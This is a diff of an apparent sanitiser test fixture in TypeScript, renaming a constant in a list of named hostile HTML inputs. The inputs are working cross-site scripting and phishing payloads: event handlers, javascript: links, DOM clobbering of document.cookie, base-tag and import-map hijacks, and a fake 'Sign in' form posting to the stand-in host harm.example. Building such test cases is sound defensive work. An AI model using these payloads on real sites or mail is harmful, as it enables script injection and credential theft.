@@ -1,9 +1,9 @@
 import { HARM } from './mail-case.ts'
 
 const harm = (name: string) => `${HARM}('${name}')`
-const OUT = 'https://harm.example'
+const HARM_URL = 'https://harm.example'
 
-/** Hostile HTML that hopes for a parser that reads it in another way than the browser does, by name. */
+/** Hostile HTML that exploits differences between the sanitiser's parser and the browser's, by name. */
 export const hostileStructures: readonly [string, string][] = [
   [
     'mutation-annotation',
@@ -80,13 +80,13 @@ export const hostileStructures: readonly [string, string][] = [
   ],
   [
     'dialog-open',
-    `<dialog open style="position:fixed;inset:0"><form method=dialog action="${OUT}"><button>Sign in</button></form></dialog>`,
+    `<dialog open style="position:fixed;inset:0"><form method=dialog action="${HARM_URL}"><button>Sign in</button></form></dialog>`,
   ],
   [
     'speculation',
-    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${OUT}/s"]}]}</script>`,
+    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${HARM_URL}/s"]}]}</script>`,
   ],
-  ['import-map', `<script type="importmap">{"imports":{"react":"${OUT}/r.js"}}</script>`],
+  ['import-map', `<script type="importmap">{"imports":{"react":"${HARM_URL}/r.js"}}</script>`],
   ['module', `<script type="module">${harm('module')}</script><script nomodule>${harm('module')}</script>`],
   [
     'event-unusual',
@@ -104,11 +104,11 @@ export const hostileStructures: readonly [string, string][] = [
     'event-drag',
     `<b draggable=true ondragstart=${harm('event-drag')} oncopy=${harm('event-drag')} onpaste=${harm('event-drag')}>b</b>`,
   ],
-  ['base-elsewhere', `<base href="${OUT}/" target="_top"><img src="b.png"><a href="next">press</a>`],
-  ['base-late', `</p></body></html><base href="${OUT}/late/"><img src="l.png">`],
+  ['base-elsewhere', `<base href="${HARM_URL}/" target="_top"><img src="b.png"><a href="next">press</a>`],
+  ['base-late', `</p></body></html><base href="${HARM_URL}/late/"><img src="l.png">`],
   [
     'target-parent',
-    `<a href="javascript:top.${harm('target-parent')}" target="_parent">press</a><form target=_top action="${OUT}"><button>press</button></form>`,
+    `<a href="javascript:top.${harm('target-parent')}" target="_parent">press</a><form target=_top action="${HARM_URL}"><button>press</button></form>`,
   ],
   [
     'target-named',
@@ -158,15 +158,15 @@ export const hostileStructures: readonly [string, string][] = [
   ['svg-begin', `<svg><animate onbegin=${harm('svg-begin')} attributeName=x dur=1s></svg>`],
   [
     'form-outside',
-    `<form id=f action="${OUT}/f"></form><button form=f formaction="javascript:${harm('form-outside')}">press</button>`,
+    `<form id=f action="${HARM_URL}/f"></form><button form=f formaction="javascript:${harm('form-outside')}">press</button>`,
   ],
   [
     'form-autosubmit',
-    `<form action="${OUT}/auto"><input name=q autofocus onfocus="this.form.submit()"><keygen><isindex action="${OUT}" prompt=x></form>`,
+    `<form action="${HARM_URL}/auto"><input name=q autofocus onfocus="this.form.submit()"><keygen><isindex action="${HARM_URL}" prompt=x></form>`,
   ],
   [
     'clobber-deep',
-    `<form id=document><input name=cookie><img name=body><a id=defaultView name=top href="x:${harm('clobber-deep')}"></form><a id=enamel></a><a id=enamel name=config href="${OUT}"></a>`,
+    `<form id=document><input name=cookie><img name=body><a id=defaultView name=top href="x:${harm('clobber-deep')}"></form><a id=enamel></a><a id=enamel name=config href="${HARM_URL}"></a>`,
   ],
   [
     'nested-deep',
@@ -177,7 +177,7 @@ export const hostileStructures: readonly [string, string][] = [
     'nested-formatting',
     `${'<b><i><font color=red>'.repeat(600)}<b onclick=${harm('nested-formatting')}>b</b>`,
   ],
-  ['nested-quotes', `${'<blockquote>'.repeat(1500)}<meta http-equiv=refresh content="0;url=${OUT}">`],
+  ['nested-quotes', `${'<blockquote>'.repeat(1500)}<meta http-equiv=refresh content="0;url=${HARM_URL}">`],
   [
     'large-attribute',
     `<a title="${'x'.repeat(300_000)}" href="javascript:${harm('large-attribute')}">press</a>`,
@@ -187,8 +187,8 @@ export const hostileStructures: readonly [string, string][] = [
     `<img ${Array.from({ length: 5000 }, (_, index) => `a${index}=1`).join(' ')} src=x onerror=${harm('large-attributes')}>`,
   ],
   ['large-text', `<p>${'word '.repeat(60_000)}</p><img src=x onerror=${harm('large-text')}>`],
-  ['large-pictures', `<img src="${OUT}/many.png">`.repeat(2000)],
-  ['large-style', `<div style="${'color:red;'.repeat(20_000)}background:url(${OUT}/s.png)">s</div>`],
+  ['large-pictures', `<img src="${HARM_URL}/many.png">`.repeat(2000)],
+  ['large-style', `<div style="${'color:red;'.repeat(20_000)}background:url(${HARM_URL}/s.png)">s</div>`],
   [
     'large-entities',
     `${'&amp;lt;script&amp;gt;'.repeat(10_000)}&lt;script&gt;${harm('large-entities')}&lt;/script&gt;`,
